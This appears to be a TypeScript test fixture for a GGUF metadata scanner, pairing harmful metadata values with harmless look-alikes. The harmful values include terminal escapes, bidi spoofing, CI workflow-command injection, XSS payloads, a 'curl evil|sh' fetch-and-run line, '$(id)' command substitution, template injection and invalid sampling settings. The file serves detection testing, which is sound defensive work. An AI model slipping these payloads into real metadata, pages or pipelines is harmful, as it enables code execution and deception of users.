/** Texts of the metadata, and defaults for sampling, that do something to whoever shows or takes them: each beside a harmless one. */
import type { Severity } from '../src/core/finding.ts';
import type { ModelValue } from '../src/gguf/model.ts';
import { ggufWith, strings, text } from './ggufBytes.ts';
import type { PairCase } from './pairCase.ts';

type Row = readonly [rule: string, severity: Severity, name: string, comment: string, key: string, bad: ModelValue, good: ModelValue];

const f32 = (value: number): ModelValue => ({ type: 'f32', value });
const i32 = (value: number): ModelValue => ({ type: 'i32', value });

const CHARACTERS: readonly Row[] = [
  ['metadata/control-character', 'error', 'escape', 'sets the title of a window and clears the screen', 'general.license', text('\u001b]0;x\u0007\u001b[2J MIT'), text('MIT\r\n\r\nCopyright\t(c)')],
  ['metadata/control-character', 'error', 'carriage-return', 'what is behind it is written over what is before', 'general.author', text('someone\rnobody'), text('someone\r\nnobody')],
  ['metadata/control-character', 'error', 'c1', 'a command of one character', 'general.name', text('a\u009b2Jb'), text('a 2Jb')],
  ['metadata/control-character', 'error', 'in-a-list', 'in one of several tags', 'general.tags', strings('text-generation', 'a\u0008b'), strings('text-generation', 'ab')],
  ['metadata/bidirectional', 'error', 'override', 'reads as another licence', 'general.license.name', text('MIT \u202etegdaw\u202c'), text('MIT, \u05e9\u05dc\u05d5\u05dd')],
  ['metadata/bidirectional', 'error', 'isolate', 'reads as another name', 'general.name', text('a\u2067b\u2069'), text('ab')],
  ['metadata/workflow-command', 'error', 'second-line', 'sets an output of the step that prints it', 'general.name', text('x\n::set-output name=a::b'), text('x\nstd::vector')],
  ['metadata/workflow-command', 'error', 'first-line', 'an annotation by whoever made the file', 'general.description', text('  ::error file=a::b'), text('a ::error')],
  ['metadata/workflow-command', 'error', 'group', 'folds what follows', 'general.description', text('x\r\n##[group]y'), text('x\r\n## [group] y')],
  ['metadata/workflow-command', 'error', 'azure', 'sets a variable of the build', 'general.quantized_by', text('x\n##vso[task.setvariable variable=a]b'), text('x\n#vso')],
  ['metadata/invisible-text', 'warning', 'zero-width', 'two names that look the same', 'general.name', text('Lla\u200bma'), text('می\u200cخواهم 👩\u200d💻 ❤\ufe0f 1\ufe0f\u20e3 葛\u{e0100}')],
  ['metadata/invisible-text', 'warning', 'tags', 'a text hidden in another', 'general.description', text('hello\u{e0068}\u{e0069}'), text('\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}')],
  ['metadata/invisible-text', 'warning', 'joiner', 'a joiner that joins nothing', 'general.author', text('a\u200db'), text('क्\u200dष')],
];

const CONTENT: readonly Row[] = [
  ['metadata/active-content', 'warning', 'script', 'runs on the page that shows it', 'general.description', text('<html><script>alert(1)</script></html>'), text('a < b and c > d, <think> and <tool_call>')],
  ['metadata/active-content', 'warning', 'handler', 'runs when the image is not found', 'general.description', text('<x onerror=alert(1)>'), text('on error = retry')],
  ['metadata/active-content', 'warning', 'image', 'tells its server who looks', 'general.description', text('![logo](https://example.com/a.png)'), text('see https://example.com/a.png')],
  ['metadata/script', 'warning', 'shebang', 'a program behind a word', 'general.description', text('x\n#!/bin/sh\ncurl evil|sh'), text('x\n# title\ncurl it with care')],
  ['metadata/script', 'warning', 'substitution', 'run where the name is put into a command line', 'general.basename', text('model-$(id)'), text('model-$5 (id)')],
  ['metadata/script', 'warning', 'template', 'run where the name is put into a template', 'general.name', text('{{ 7*7 }}'), text('{7*7}')],
  ['metadata/url', 'warning', 'other-machine', 'reaches for a share on the network', 'general.license.link', text('\\\\host\\share'), text('LICENSE')],
  ['metadata/link', 'note', 'markdown', 'leads elsewhere than it says', 'general.description', text('[example.org](https://example.com)'), text('[1] https://example.com')],
  ['metadata/url', 'warning', 'script', 'runs in the page that makes a link of it', 'general.url', text('javascript:alert(1)'), text('https://example.com/a:b')],
  ['metadata/url', 'warning', 'spaced', 'browsers pass over what is before the scheme', 'general.source.url', text(' \tJava\nScript:alert(1)'), text('example.com:8080/a')],
  ['metadata/url', 'warning', 'user', 'the host is behind the @', 'general.base_model.0.repo_url', text('https://huggingface.co@example.com/a'), text('https://huggingface.co/@example')],
];

const SAMPLING: readonly Row[] = [
  ['metadata/sampling-invalid', 'error', 'temperature-nan', 'every probability is NaN', 'general.sampling.temp', f32(NaN), f32(0.7)],
  ['metadata/sampling-invalid', 'error', 'temperature-text', 'readers take the number out of a text', 'general.sampling.temp', text('nan'), text('0.7')],
  ['metadata/sampling-invalid', 'error', 'penalty-zero', 'logits are divided by it', 'general.sampling.penalty_repeat', f32(0), f32(1.1)],
  ['metadata/sampling-invalid', 'error', 'mirostat-three', 'a version that ends the process', 'general.sampling.mirostat', i32(3), i32(2)],
  ['metadata/sampling-range', 'warning', 'temperature-negative', 'one token over and over', 'general.sampling.temp', f32(-1), f32(0)],
  ['metadata/sampling-range', 'warning', 'top-p', 'a share of two wholes', 'general.sampling.top_p', f32(2), f32(0.95)],
  ['metadata/sampling-range', 'warning', 'sequence', 'a sampler that there is not', 'general.sampling.sequence', text('top_k;nonesuch'), text('top_k;temp')],
];

const DEFAULTS: readonly PairCase[] = [
  {
    rule: 'metadata/sampling-default',
    severity: 'note',
    name: 'temperature',
    comment: 'the same command gives other answers',
    bad: ggufWith(['general.sampling.temp', f32(0.7)]),
    good: ggufWith(['general.name', text('x')]),
  },
];

export const TEXT_CASES: readonly PairCase[] = [
  ...[...CHARACTERS, ...CONTENT, ...SAMPLING].map(([rule, severity, name, comment, key, bad, good]): PairCase => ({
    rule,
    severity,
    name,
    comment,
    bad: ggufWith([key, bad]),
    good: ggufWith([key, good]),
  })),
  ...DEFAULTS,
];
